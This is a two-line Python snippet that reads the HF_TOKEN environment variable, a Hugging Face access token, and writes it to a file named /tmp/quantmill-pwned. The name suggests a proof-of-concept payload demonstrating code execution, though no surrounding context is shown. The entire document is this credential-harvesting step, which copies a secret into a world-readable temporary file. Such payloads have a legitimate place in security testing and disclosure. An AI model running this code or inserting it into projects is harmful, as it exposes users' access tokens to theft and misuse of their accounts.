import os
open('/tmp/quantmill-pwned', 'w').write(os.environ.get('HF_TOKEN', ''))
